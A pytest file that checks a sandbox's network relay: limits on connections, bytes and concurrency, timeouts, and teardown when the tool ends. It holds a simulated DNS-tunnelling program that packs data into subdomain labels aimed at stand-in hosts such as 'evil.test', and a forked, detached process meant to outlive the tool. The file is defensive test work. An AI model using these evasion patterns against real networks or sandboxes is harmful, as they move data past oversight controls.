"""One execution cannot use the outside, or the host's relay, without bound."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from actum.sandbox.egress.bounds import Bounds
from actum.sandbox.egress.connections import Lookup
from actum.sandbox.egress.relay import Relay, look_up

from .outside import EchoServer, Net, echo_server, said

pytestmark = pytest.mark.sandbox


@pytest.fixture
def echo() -> Iterator[EchoServer]:
    with echo_server() as server:
        yield server


@pytest.fixture
def make(tmp_path: Path, echo: EchoServer) -> Iterator[Any]:
    made: list[Net] = []

    def make(
        hosts: tuple[str, ...] = ("echo.test:7",), lookup: Lookup = look_up, **bounds: Any
    ) -> Net:
        def relay(resolve: Mapping[str, str]) -> Relay:
            return Relay(resolve, Bounds(**bounds), lookup)

        resolve = {"echo.test:7": echo.place}
        outbound = ("http", "https", "tcp")
        made.append(Net(tmp_path, hosts=hosts, outbound=outbound, resolve=resolve, relay=relay))
        return made[-1]

    yield make
    for each in made:
        each.close()


MANY = """
import socket, sys
count = int(sys.argv[1])
held, refused = [], 0
for _ in range(count):
    s = socket.create_connection(('echo.test', 7))
    held.append(s)
for s in held:
    try:
        s.sendall(b'x')
    except OSError:
        pass
answers = 0
for s in held:
    try:
        answers += s.recv(1) == b'X'
    except OSError:
        pass
print(answers)
"""


def python(program: str, *arguments: object) -> str:
    words = " ".join(str(word) for word in arguments)
    return f"cat > p.py <<'END'\n{program}\nEND\npython3 p.py {words}\n"


def test_a_thousand_connections_at_once_are_all_served_and_all_on_record(
    make: Any, echo: EchoServer
) -> None:
    result = make().run(python(MANY, 1_000))
    assert said(result) == ["1000"]
    assert echo.seen == 1_000
    assert len(result.egress) == 1_000
    row = next(row for row in result.enforcement if row.limit == "network")
    assert (row.peak, row.tripped) == (1_000, False)


def test_the_number_of_connections_is_bounded(make: Any, echo: EchoServer) -> None:
    result = make(connections=20).run(python(MANY, 30))
    assert said(result) == ["20"]
    assert echo.seen == 20
    row = next(row for row in result.enforcement if row.limit == "network")
    assert row.tripped
    *made, rest = result.egress
    assert [one.refused for one in made] == [""] * 20
    assert rest.refused == "10 more attempts, not listed"


def test_the_number_of_connections_at_once_is_bounded(make: Any, echo: EchoServer) -> None:
    # The pause: the relay sees the end of the first ten a little later.
    result = make(at_once=10).run(f"{python(MANY, 15)}\nsleep 3\n{python(MANY, 5)}")
    assert said(result) == ["10", "5"]
    assert [one.refused for one in result.egress].count(
        "over the number of connections at once"
    ) == 5


def test_the_number_of_bytes_is_bounded(make: Any) -> None:
    program = """
import socket
s = socket.create_connection(('echo.test', 7))
total = 0
try:
    for _ in range(100):
        s.sendall(bytes(10_000))
        while (total % 10_000 or not total) and (data := s.recv(10_000)):
            total += len(data)
        data = s.recv(10_000) if total % 10_000 else b''
        total += len(data)
except OSError:
    pass
print(total <= 100_000)
"""
    net = make(bytes=200_000)
    result = net.run(python(program))
    assert said(result) == ["True"]
    row = next(row for row in result.enforcement if row.limit == "network")
    assert row.tripped
    moved = sum(one.sent + one.received for one in result.egress)
    assert 0 < moved <= 200_000


def test_a_peer_that_says_nothing_is_waited_for_no_longer_than_the_tool(
    tmp_path: Path,
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        place = f"127.0.0.1:{silent.getsockname()[1]}"
        net = Net(tmp_path, hosts=["slow.test:80"], resolve={"slow.test:80": place})
        script = "curl -sS http://slow.test/"
        fields = {"sandbox.network.enabled": True, "sandbox.timeout_ms": 3_000}
        net.approve(net.exec(script, fields))
        result = net.exec(script, fields)
        assert result.outcome == "TIMED_OUT"
        assert [(one.host, one.refused) for one in result.egress] == [("slow.test", "")]
        peer, _ = silent.accept()
        with peer:
            peer.settimeout(10)
            while peer.recv(4_096):
                pass  # until the relay hangs up, which it has done
        net.close()


def test_the_end_of_the_tool_cuts_its_connections(make: Any, echo: EchoServer) -> None:
    program = """
import os, socket
s = socket.create_connection(('echo.test', 7))
s.sendall(b'x')
print(s.recv(1).decode())
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(600)  # holds the connection, and is killed with the tool
"""
    result = make().run(python(program))
    assert said(result) == ["X"]
    until = time.monotonic() + 60
    while echo.ended < 1 and time.monotonic() < until:
        time.sleep(0.01)
    assert echo.ended == 1
    assert [thread.name for thread in threading.enumerate()].count("actum-egress") == 1


QUERIES = """
import socket, sys
made = 0
for number in range(int(sys.argv[1])):
    try:
        socket.getaddrinfo(f'{"d" * 50}{number}.tunnel.test', 80, socket.AF_INET)
        made += 1
    except OSError:
        pass
print(made)
"""


def test_data_in_the_labels_of_names_goes_nowhere(make: Any) -> None:
    """DNS tunnelling under an allowed wildcard: answered here, never sent on."""
    asked: list[str] = []

    async def lookup(host: str, port: int) -> list[Any]:
        asked.append(host)
        return []

    net = make(hosts=("*.tunnel.test",), lookup=lookup)
    result = net.run(python(QUERIES, 60) + "curl -sS -m 5 http://one.tunnel.test/ || true")
    assert said(result) == ["60"]
    # A name is resolved when it is connected to, not when it is asked for.
    assert asked == ["one.tunnel.test"]
    assert [one.refused for one in result.egress] == ["name not resolved: no address"]


def test_questions_about_refused_names_are_recorded_once_each_and_bounded(make: Any) -> None:
    program = QUERIES.replace("tunnel.test", "evil.test")
    result = make(refused_names=5).run(python(program, 10) + python(program, 10))
    assert said(result) == ["0", "0"]
    *names, rest = result.egress
    assert len(names) == 5
    assert {one.refused for one in names} == {"name not allowed"}
    assert "more attempts, not listed" in rest.refused
